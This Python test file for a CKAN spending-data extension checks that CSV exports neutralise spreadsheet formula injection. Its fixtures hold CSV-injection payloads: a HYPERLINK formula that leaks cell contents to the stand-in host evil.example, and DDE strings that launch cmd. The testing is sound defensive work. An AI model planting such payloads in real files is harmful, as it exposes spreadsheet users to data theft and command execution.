"""The explorer's CSV downloads: safe to open in a spreadsheet, and exactly the rows of the view they belong to."""

from __future__ import annotations

import csv
import io
import re

import ckan.plugins.toolkit as toolkit
import pytest

from ckanext.openup.procurement.values import parse_amount_text
from tests.spending.spending_data import swedish_month, upload_file
from tests.supplier_invoices import create_supplier_invoice, sysadmin_context

# Labels a buyer's file may hold that a spreadsheet would run (OWASP, "CSV injection").
HOSTILE = {
    "Leverantör 0 AB": '=HYPERLINK("http://evil.example/?leak="&A1,"Faktura")',
    "Leverantör 1 AB": "+cmd|' /C calc'!A0",
    "Förbrukningsmaterial": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Kulturförvaltningen": "-2+3+cmd|' /C calc'!A0",
}


def runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and parse_amount_text(cell.strip()) is None


def hostile_month() -> str:
    text = swedish_month(1, 60)
    for plain, formula in HOSTILE.items():
        text = text.replace(plain, '"' + formula.replace('"', '""') + '"')
    return text


@pytest.fixture
def hostile_year(empty_spending_store, sundsvall):
    dataset = create_supplier_invoice(sundsvall, year=2025, resources=[])
    upload_file(dataset, 1, hostile_month())
    return dataset


def test_organisation_titles_that_look_like_formulas_download_as_text(app, hostile_year):
    # An organisation's title is typed by people in CKAN's form; no invoice check ever saw it.
    title = '=HYPERLINK("http://evil.example/","Sundsvall")'
    toolkit.get_action("organization_patch")(sysadmin_context(), {"id": "sundsvall", "title": title})
    for params in ({"group_by": "organization"}, {"group_by": "organization", "year": "2025", "currency": "SEK"}):
        rows = csv_rows(app.get("/spending.csv", query_string=params).body)
        assert rows[1][:2] == ["sundsvall", "'" + title]
        assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []


def csv_rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("group_by", ["supplier", "account", "unit"])
def test_explorer_csv_writes_formula_labels_as_text(app, hostile_year, group_by):
    body = app.get("/spending.csv", query_string={"organization": "sundsvall", "group_by": group_by}).body
    cells = [cell for row in csv_rows(body) for cell in row]
    assert [cell for cell in cells if runs_as_formula(cell)] == []
    guarded = {cell for cell in cells if cell.startswith("'")}
    assert guarded and guarded <= {"'" + formula for formula in HOSTILE.values()}
    assert all(amount == "" or parse_amount_text(amount) is not None for amount in
               (row[2] for row in csv_rows(body)[1:])), "negative amounts stay numbers"


def test_year_csv_writes_formula_cells_as_text(app, hostile_year):
    body = app.get(f"/dataset/{hostile_year['name']}/invoice-rows.csv").body
    rows = csv_rows(body)
    assert len(rows) == 61
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
    assert "'" + HOSTILE["Leverantör 0 AB"] in {cell for row in rows for cell in row}
    credit_notes = [row for row in rows[1:] if re.fullmatch(r"-\d+\.\d+", row[10])]
    assert credit_notes, "a credit note's negative amount is written as a number, not guarded"


def test_year_csv_guards_rows_written_straight_into_the_datastore(app, hostile_year):
    # The DataStore API lets a publisher write rows that never went through the invoice checks.
    [month] = toolkit.get_action("package_show")(sysadmin_context(), {"id": hostile_year["id"]})["resources"]
    [row] = toolkit.get_action("datastore_search")(
        sysadmin_context(), {"resource_id": month["id"], "limit": 1})["records"]
    written = {name: value for name, value in row.items() if name != "_id"}
    supplier_column = next(name for name, value in written.items()
                           if value in ("'" + HOSTILE["Leverantör 0 AB"], "'" + HOSTILE["Leverantör 1 AB"]))
    toolkit.get_action("datastore_upsert")(sysadmin_context(), {
        "resource_id": month["id"], "method": "insert", "force": True,
        "records": [dict(written, **{supplier_column: "\t=1+1"})]})
    rows = csv_rows(app.get(f"/dataset/{hostile_year['name']}/invoice-rows.csv").body)
    assert len(rows) == 62
    assert [cell for row in rows for cell in row if runs_as_formula(cell)] == []
    assert "'\t=1+1" in {cell for row in rows for cell in row}
